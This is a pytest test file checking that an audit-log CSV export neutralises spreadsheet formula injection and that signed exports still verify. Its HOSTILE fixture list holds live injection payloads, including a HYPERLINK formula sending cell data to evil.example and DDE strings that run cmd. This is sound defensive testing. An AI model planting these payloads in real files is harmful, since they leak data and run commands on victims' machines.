"""CSV formula injection: text a caller chooses (a revocation reason, a justification, a request id, a token's
subject) lands in cells of the CSV export, which auditors open in a spreadsheet. A cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return is run as a formula there (`=HYPERLINK(...)`, `=cmd|' /c calc'!A0`); the
export quotes such cells with a leading `'` and the verifier still rebuilds the exact hashed bytes."""

from __future__ import annotations

import csv
import io

import pytest

from audit import Actor, record
from audit.errors import Malformed
from audit.export import export_events
from audit.export.csv import CSV_COLUMNS, UNGUARDED_CAUTION, read_csv
from audit.export.records import Event
from audit.verify import verify_export
from store.db import Database
from tests.audit.conftest import KeySigner

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /c calc'!A0",
    "+1+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by its author",
    "''=twice",
    "'plain text with a quote first",
    "plain = text",
]


@pytest.fixture
def hostile(sqlite_db: Database) -> Database:
    with sqlite_db.session() as s:
        for i, text in enumerate(HOSTILE):
            record(s, actor=Actor(text, "tenant", "acme"), action="grant.revoke", object_type="grant",
                   object_id=f"g-{i}", tenant="acme", summary={"state": "revoked"}, reason=text,
                   request_id=text)
    return sqlite_db


def _export(db: Database, signer: KeySigner) -> bytes:
    buf = io.BytesIO()
    export_events(db, signer, buf, fmt="csv")
    return buf.getvalue()


def test_no_csv_cell_starts_a_formula(hostile: Database, signer: KeySigner) -> None:
    rows = list(csv.reader(io.StringIO(_export(hostile, signer).decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    events = [dict(zip(rows[0], r, strict=True)) for r in rows if r[0] == "event"]
    assert [e["reason"] for e in events][:2] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert events[-1]["reason"] == "plain = text", "text that starts no formula is left as it is"


def test_quoted_cells_read_back_as_written_and_verify(hostile: Database, signer: KeySigner) -> None:
    data = _export(hostile, signer)
    docs = [r.doc for r in read_csv(io.BytesIO(data)) if isinstance(r, Event) and r.doc is not None]
    assert [(d["reason"], d["request_id"], d["actor"]["id"]) for d in docs] == [(t, t, t) for t in HOSTILE]
    for fast in (True, False):
        report = verify_export(io.BytesIO(data), signer.public_key(), fast=fast)
        assert (report.events, report.cautions) == (len(HOSTILE), ())


def test_a_file_without_the_guard_column_is_read_verbatim(hostile: Database, signer: KeySigner) -> None:
    """Exports written before the quoting (no `formula_guard` column) never quoted: a leading `'` is the author's."""
    assert CSV_COLUMNS[-1] == "formula_guard"
    rows = list(csv.reader(io.StringIO(_export(hostile, signer).decode(), newline="")))
    older = io.StringIO()
    csv.writer(older, lineterminator="\n").writerow(rows[0][:-1])
    writer = csv.writer(older, lineterminator="\n", quoting=csv.QUOTE_ALL)  # the cells as written before
    for row in rows[1:]:
        writer.writerow([_unquoted(c) for c in row[:-1]])
    older_file = io.BytesIO(older.getvalue().encode())
    docs = [r.doc for r in read_csv(older_file) if isinstance(r, Event) and r.doc is not None]
    assert [d["reason"] for d in docs] == HOSTILE
    # it verifies (its bytes are the hashed ones), and the report says its cells may run as formulas
    report = verify_export(io.BytesIO(older.getvalue().encode()), signer.public_key())
    assert (report.events, report.cautions) == (len(HOSTILE), (UNGUARDED_CAUTION,))


def _unquoted(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith((*FORMULA_START, "'")) else cell


def test_a_guarded_file_with_a_live_formula_does_not_verify(hostile: Database, signer: KeySigner) -> None:
    """In a file with the `formula_guard` column every cell a spreadsheet would run carries the guard; one that does
    not (its `'` taken off by whoever handed the file on) rebuilt the same hashed bytes, so the file verified while
    the auditor's spreadsheet ran the cell: now such a file is malformed, naming the line."""
    data = _export(hostile, signer).decode()
    rows = list(csv.reader(io.StringIO(data, newline="")))
    column = rows[0].index("reason")
    line = next(i for i, r in enumerate(rows) if r[column] == "'" + HOSTILE[0])
    rows[line][column] = HOSTILE[0]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(rows[0])
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows[1:])
    with pytest.raises(Malformed, match=rf"line {line + 1}: .*formula"):
        verify_export(io.BytesIO(out.getvalue().encode()), signer.public_key())
